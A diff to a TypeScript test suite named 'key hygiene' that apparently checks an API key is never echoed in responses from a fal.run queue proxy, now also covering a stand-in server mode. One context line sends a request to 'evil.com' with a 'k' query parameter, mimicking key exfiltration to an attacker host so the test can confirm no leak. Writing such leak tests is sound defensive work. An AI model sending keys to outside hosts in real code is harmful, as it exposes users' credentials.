@@ -309,6 +309,14 @@ describe("key hygiene", () => {
     };
     seen.push(await call(SUBMIT, { body: "{}" }));
     seen.push(await call("https://evil.com/?k=" + "x", { body: "{}" }));
+    // FAL_STANDIN=1 with a key configured: the stand-in path must not see or echo the key either.
+    const standin = await boot({ standin: true });
+    const sub = await call(SUBMIT, { server: standin, body: JSON.stringify({ model_name: "a/b", prompt: "p" }) });
+    const rid = JSON.parse(sub.body).request_id as string;
+    await call(`https://queue.fal.run/fal-ai/lora/requests/${rid}/status?logs=1`, { server: standin, method: "GET" });
+    await call(`https://queue.fal.run/fal-ai/lora/requests/${rid}`, { server: standin, method: "GET" });
+    await call(SUBMIT, { server: standin, body: "{}" });
+    await call(`https://queue.fal.run/fal-ai/lora/requests/${rid}/cancel`, { server: standin, method: "PUT" });
     expect(seen.length).toBeGreaterThan(80);
     for (const r of seen) {
       expect(r.body).not.toContain(CANARY);
